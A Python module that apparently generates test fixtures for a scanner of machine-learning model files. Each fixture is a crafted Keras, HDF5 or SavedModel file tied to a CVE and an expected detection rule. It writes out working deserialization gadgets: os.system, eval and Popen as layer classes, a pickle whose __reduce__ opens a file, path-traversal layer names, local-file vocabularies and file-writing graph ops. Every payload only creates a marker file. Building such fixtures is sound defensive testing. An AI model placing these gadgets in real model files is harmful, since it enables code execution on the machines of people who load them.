"""Attacks by what a config says, without any bytecode."""

# ruff: noqa: E501, one row of a table is one line
from __future__ import annotations

import base64
import json
import pickle
from typing import Any

from attacks.build import (
    keras_h5,
    keras_zip,
    lambda_layer,
    layer,
    model,
    named,
    old_model,
    saved_model,
)
from attacks.registry import attack


def _custom(module: Any, kind: Any, registered: Any = None, **config: Any) -> bytes:
    return keras_zip(
        model({"module": module, "class_name": kind, "config": config, "registered_name": registered})
    )


_MODULES = "CVE-2025-1550"
_REUSE = "CVE-2025-8747"
# name: (what it attempts, module, class, rule, advisory)
_GADGETS = {
    "os_system": ("os.system as a class", "os", "system", "object.gadget", _MODULES),
    "builtin_eval": ("eval as a class", "builtins", "eval", "object.gadget", _MODULES),
    "popen": ("subprocess.Popen as a class", "subprocess", "Popen", "object.gadget", _MODULES),
    "torch_load": ("torch.load as a class", "torch", "load", "object.gadget", _MODULES),
    "numpy_load": ("numpy.load as a class", "numpy", "load", "object.gadget", _MODULES),
    "keras_get_file": ("Keras's download function as a class", "keras.utils", "get_file", "object.gadget", _REUSE),
    "keras_func_load": ("Keras's own unmarshaller as a class", "keras.src.utils.python_utils", "func_load",
                        "object.gadget", _REUSE),
    "keras_load_model": ("another model, loaded from a path", "keras.saving", "load_model", "object.gadget", _REUSE),
    "safe_mode_off": ("the switch of safe mode, as a class", "keras.config", "enable_unsafe_deserialization",
                      "object.gadget", "CVE-2025-9906"),
    "tf_write_file": ("TensorFlow's file operation as a class", "tensorflow.io", "write_file", "object.gadget", _REUSE),
    "someones_layer": ("a class of an arbitrary installed package", "helpful.layers", "Layer", "object.custom", _MODULES),
}  # fmt: skip
for _name, (_attempts, _module, _kind, _rule, _advisory) in _GADGETS.items():
    attack(
        f"gadget_{_name}.keras",
        _attempts,
        _rule,
        "by name" if _rule == "object.custom" else "not allowed",
        _advisory,
    )(lambda marker, module=_module, kind=_kind: _custom(module, kind, command=f"touch {marker}"))

attack("gadget_lambda_get_file.keras", "a Lambda whose function is Keras's download function, with arguments",
       "function.gadget", advisory=_REUSE)(
    lambda m: keras_zip(model(layer("Lambda", function=named("get_file", "keras.utils"), arguments={"origin": m})))
)  # fmt: skip
attack(
    "gadget_lambda_system.keras",
    "a Lambda whose function is os.system by name",
    "function.gadget",
    advisory=_MODULES,
)(lambda m: keras_zip(model(lambda_layer(named("system", "os")))))
attack(
    "gadget_lambda_eval.keras",
    "a Lambda whose function is the built-in eval",
    "function.gadget",
    advisory=_MODULES,
)(lambda m: keras_zip(model(lambda_layer(named("eval", "builtins", "builtin_function_or_method")))))
attack("gadget_safe_mode_function.keras", "the switch of safe mode as an activation", "function.gadget",
       advisory="CVE-2025-9906")(
    lambda m: keras_zip(model(layer("Activation", activation=named("enable_unsafe_deserialization", "keras.config"))))
)  # fmt: skip
attack(
    "gadget_shadow_function.keras",
    "a tensor function's name, from another module",
    "function.gadget",
    advisory=_MODULES,
)(lambda m: keras_zip(model(lambda_layer(named("relu", "os")))))
attack("odd_function_name.keras", "a function name with code in it", "function.gadget", advisory=_MODULES)(
    lambda m: keras_zip(model(lambda_layer(named(f"open('{m}','w')"))))
)
attack(
    "named_function.keras",
    "a function by name, which whoever loads it must have",
    "function.by-name",
    "by name",
    _MODULES,
)(lambda m: keras_zip(model(lambda_layer(named("my_function", "builtins")))))
attack(
    "loss_name.h5", "a loss by the name of a function of the user's", "function.by-name", "by name", _MODULES
)(lambda m: keras_h5(old_model(), training={"loss": "my_loss", "metrics": ["mae"]}))
attack(
    "shadow.keras",
    "a Dense that is registered as something else",
    "object.shadow",
    advisory="Keras commit a7316d5",
)(lambda m: keras_zip(model(layer("Dense", registered="evil>Thing", units=1))))
attack("shadow_package.keras", "a Dense that is registered in another package", "object.shadow",
       advisory="Keras commit a7316d5")(
    lambda m: keras_zip(model(layer("Dense", registered="evil>Dense", units=1)))
)  # fmt: skip
attack(
    "no_module.keras", "a class without a module, by the legacy route", "object.custom", "by name", _MODULES
)(lambda m: keras_zip(model({"class_name": "Exploit", "config": {"command": f"touch {m}"}})))
for _key, _value in (("class_name", ["Dense"]), ("module", {"a": 1}), ("registered_name", 5)):
    attack(
        f"type_of_{_key}.keras",
        f"a {_key} that is no text",
        "object.malformed",
        "not understood",
        "Keras commit 341ab04",
    )(lambda m, key=_key, value=_value: keras_zip(model({**layer("Dense"), key: value})))
attack("torch_module.keras", "a pickled PyTorch module", "layer.torch-module", advisory="CVE-2025-49655")(
    lambda m: keras_zip(model(layer("TorchModuleWrapper", module=base64.b64encode(_pickle(m)).decode())))
)
attack(
    "torch_module_bytes.h5",
    "a pickled PyTorch module, in HDF5",
    "layer.torch-module",
    advisory="CVE-2025-49655",
)(
    lambda m: keras_h5(
        model(layer("TorchModuleWrapper", module={"class_name": "__bytes__", "config": _text(m)}))
    )
)
attack("tfsm_layer.keras", "a SavedModel loaded from a path", "layer.tfsm", advisory="CVE-2026-1462")(
    lambda m: keras_zip(model(layer("TFSMLayer", filepath="/tmp/evil", call_endpoint="serve")))
)
attack("jax_layer.keras", "a layer that wraps a JAX function", "layer.jax", "by name", "CVE-2025-49655")(
    lambda m: keras_zip(model(layer("JaxLayer", call_fn=named("apply", "helpful.net"))))
)
attack("flax_layer.keras", "a layer that wraps a Flax module", "layer.jax", "by name", "CVE-2025-49655")(
    lambda m: keras_zip(model(layer("FlaxLayer", method=None)))
)
for _kind in ("StringLookup", "TextVectorization"):
    attack(
        f"vocabulary_{_kind.lower()}.keras",
        "a local file as the vocabulary",
        "config.file",
        advisory="CVE-2025-12058",
    )(lambda m, kind=_kind: keras_zip(model(layer(kind, vocabulary="/etc/hostname"))))
attack("vocabulary_url.h5", "a URL as the vocabulary", "config.file", advisory="CVE-2025-12058")(
    lambda m: keras_h5(model(layer("IntegerLookup", vocabulary="http://localhost/v.txt")))
)
attack(
    "idf_weights.keras", "a path as the weights of a vocabulary", "config.file", advisory="CVE-2025-12058"
)(lambda m: keras_zip(model(layer("TextVectorization", vocabulary=["a"], idf_weights="../weights.npy"))))
attack("path_elsewhere.keras", "a path where no path belongs", "config.path", "by name", "CVE-2025-12058")(
    lambda m: keras_zip(model(layer("Dense", units=1, source="file:///etc/hostname")))
)
for _tag, _text_of_name in (
    ("parent", "../../evil"), ("absolute", "/tmp/evil"), ("nul", "a\0b"), ("drive", "C:evil"), ("backslash", "..\\evil"),
    ("dot", "assets/./evil"),
):  # fmt: skip
    attack(
        f"name_{_tag}.keras", f"a layer name that is a path: {_tag}", "object.name", advisory="CVE-2026-12479"
    )(lambda m, name=_text_of_name: keras_zip(model(layer("Dense", name=name, units=1))))
attack("pickle_text.keras", "a pickle as a text in a config", "config.pickle", advisory="CVE-2025-49655")(
    lambda m: keras_zip(model(layer("Dense", units=1, state=base64.b64encode(_pickle(m)).decode())))
)
attack(
    "tf_op_lambda.h5", "TensorFlow's file operation as a layer", "layer.graph-op", advisory="CVE-2025-8747"
)(
    lambda m: keras_h5(
        old_model({"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}})
    )
)
attack("tf_op_layer.h5", "TensorFlow's file operation as a graph node", "layer.graph-op", advisory="CVE-2025-8747")(
    lambda m: keras_h5(old_model({"class_name": "TensorFlowOpLayer", "config": {
        "name": "w", "node_def": json.dumps({"name": "w", "op": "WriteFile"}), "constants": {"0": m}}}))
)  # fmt: skip
attack(
    "expression_op.keras",
    "an expression of lamina that calls os.system",
    "lambda.expression",
    "not understood",
)(lambda m: _own([["os.system", [f"touch {m}"]]], "%1"))
attack(
    "expression_reference.keras",
    "an expression of lamina that refers to nothing",
    "lambda.expression",
    "not understood",
)(lambda m: _own([["square", ["%7"]]], "%9"))
attack(
    "expression_version.keras", "an expression of lamina of the future", "lambda.expression", "not understood"
)(lambda m: _own([["square", ["%0"]]], "%1", version=999))
attack("saved_model_write.sm", "a SavedModel whose graph writes a file", "graph.op")(
    lambda m: saved_model(old_model(), ("Placeholder", "WriteFile"))
)
attack("saved_model_python.sm", "a SavedModel whose graph calls Python", "graph.op")(
    lambda m: saved_model(old_model(), ("EagerPyFunc",))
)
attack("saved_model_checkpoint.sm", "a SavedModel that writes checkpoints outside of saving", "graph.op")(
    lambda m: saved_model(old_model(), ("SaveV2",))
)
attack(
    "saved_model_custom.sm", "a SavedModel with an operation from a library", "graph.custom-op", "by name"
)(lambda m: saved_model(old_model(), ("EvilOp",)))
attack("saved_model_damaged.sm", "a SavedModel whose graph is cut", "protobuf.damaged", "not understood")(
    lambda m: {**saved_model(old_model()), "saved_model.pb": b"\x12\xff\xff"}
)


class _Touch:
    """Pickles as a call that would create the marker."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return open, (self.marker, "w")


def _pickle(marker: str) -> bytes:
    return pickle.dumps(_Touch(marker))


def _text(marker: str) -> str:
    return _pickle(marker).decode("latin-1")


def _own(calls: list[Any], outputs: Any, version: int = 1) -> bytes:
    expression = {"lamina": version, "by": "0.1.0", "calls": calls, "outputs": outputs}
    return keras_zip(
        model(layer("Lambda", "lamina", "lamina>Lambda", expressions=[{"expression": expression}]))
    )
